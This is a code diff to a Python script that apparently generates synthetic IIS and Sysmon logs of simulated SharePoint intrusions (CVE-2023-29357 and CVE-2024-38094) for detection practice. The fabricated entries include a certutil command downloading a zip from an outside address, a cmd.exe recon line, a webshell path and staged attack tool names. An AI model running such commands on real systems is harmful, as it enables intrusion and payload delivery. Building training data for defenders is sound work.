@@ -74,11 +74,24 @@ def ordinary(log, rnd, day):
         t += timedelta(minutes=rnd.randint(3, 11), seconds=rnd.randint(0, 59))
 
 
-def cve_2023_29357(listing):
-    rnd = random.Random(20231002)
-    day = datetime(2023, 10, 2)
+def start(seed, day):
+    """A day of ordinary IIS traffic and an empty host, both drawn from one seeded generator."""
+    rnd = random.Random(seed)
     log = W3c()
     ordinary(log, rnd, day)
+    return rnd, log, host.Host(SERVER, rnd)
+
+
+def save(folder, log, day, box, listing):
+    write_all(os.path.join(HERE, "..", folder), {
+        os.path.join(SERVER, "W3SVC1", "u_ex" + day.strftime("%y%m%d") + ".log"): log.render(day),
+        os.path.join(SERVER, "EventLogs", "sysmon.jsonl"): box.sysmon.render(),
+        os.path.join(SERVER, "EventLogs", "security.jsonl"): box.security.render()}, listing)
+
+
+def cve_2023_29357(listing):
+    day = datetime(2023, 10, 2)
+    rnd, log, box = start(20231002, day)
     a = "203.0.113.147"
     log.add(datetime(2023, 10, 2, 3, 12, 55), "GET", "/_api/web/siteusers", "", None, a, "python-requests/2.31.0", 401, 0, 0, 3,
             mark="bypass attempt without a token: 401")
@@ -90,7 +103,6 @@ def cve_2023_29357(listing):
             mark="CVE-2023-24955: crafted BDC model uploaded")
     log.add(datetime(2023, 10, 2, 3, 14, 40), "POST", "/_vti_bin/client.svc/ProcessQuery", "", None, a, "python-requests/2.31.0",
             200, taken=905, mark="CVE-2023-24955: model loaded, code runs in w3wp")
-    box = host.Host(SERVER, rnd)
     t = datetime(2023, 10, 2, 3, 14, 41, 230000)
     cmd = box.process(t, host.CMD, "cmd.exe /c whoami & hostname & ipconfig /all", host.W3WP, SP_POOL, 5120,
                       mark="w3wp.exe of the SharePoint pool starts cmd.exe", security_mark="4688 of that cmd.exe")
@@ -102,17 +114,12 @@ def cve_2023_29357(listing):
                 host.W3WP, SP_POOL, 5120)
     box.process(datetime(2023, 10, 2, 14, 0, 1), host.POWERSHELL, host.POWERSHELL + " -NoProfile -File D:\\Scripts\\Check-SPHealth.ps1",
                 host.OWSTIMER, '"' + host.OWSTIMER + '"', 2212, user="NWT\\svc_spfarm")
-    out = os.path.join(HERE, "..", "sharepoint-cve-2023-29357")
-    write_all(out, {os.path.join(SERVER, "W3SVC1", "u_ex231002.log"): log.render(day),
-                    os.path.join(SERVER, "EventLogs", "sysmon.jsonl"): box.sysmon.render(),
-                    os.path.join(SERVER, "EventLogs", "security.jsonl"): box.security.render()}, listing)
+    save("sharepoint-cve-2023-29357", log, day, box, listing)
 
 
 def cve_2024_38094(listing):
-    rnd = random.Random(20240722)
     day = datetime(2024, 7, 22)
-    log = W3c()
-    ordinary(log, rnd, day)
+    rnd, log, box = start(20240722, day)
     a = "18.195.61.200"
     owner = "NWT\\p.garner"
     log.add(datetime(2024, 7, 22, 15, 41, 7), "POST", BDCM, "", owner, a, "python-requests/2.32.3", 200, taken=287,
@@ -124,7 +131,6 @@ def cve_2024_38094(listing):
                 None, status, taken=77, mark="webshell ghostfile93.aspx through DelveApi.ashx/config")
     log.add(datetime(2024, 7, 22, 16, 5, 12), "GET", "/_vti_bin/DelveApi.ashx/config/ghostfile93.aspx", "", None, "198.51.100.61",
             None, 404, 0, 2, 1, mark="a scanner looks for the same shell on this server: 404 (not the incident)")
-    box = host.Host(SERVER, rnd)
     staged = ["66.exe", "msvrp.exe", "certify.exe", "kerbrute_windows_amd64.exe", "nxc.exe", "adexplorer64.exe", "hrsword.exe"]
     t = datetime(2024, 7, 22, 15, 44, 20)
     cmd_line = "cmd.exe /c certutil -urlcache -split -f http://198.51.100.200/t.zip C:\\ProgramData\\VMware\\t.zip"
@@ -148,10 +154,7 @@ def cve_2024_38094(listing):
                 "C:\\Windows\\system32\\services.exe", 668, user="NT AUTHORITY\\SYSTEM", integrity="System")
     box.file(datetime(2024, 7, 22, 6, 0, 4), "C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe", 2310,
              "C:\\ProgramData\\VMware\\VMware Tools\\vmtoolsd.log")
-    out = os.path.join(HERE, "..", "sharepoint-cve-2024-38094")
-    write_all(out, {os.path.join(SERVER, "W3SVC1", "u_ex240722.log"): log.render(day),
-                    os.path.join(SERVER, "EventLogs", "sysmon.jsonl"): box.sysmon.render(),
-                    os.path.join(SERVER, "EventLogs", "security.jsonl"): box.security.render()}, listing)
+    save("sharepoint-cve-2024-38094", log, day, box, listing)
 
 
 def write_all(out, files, listing):
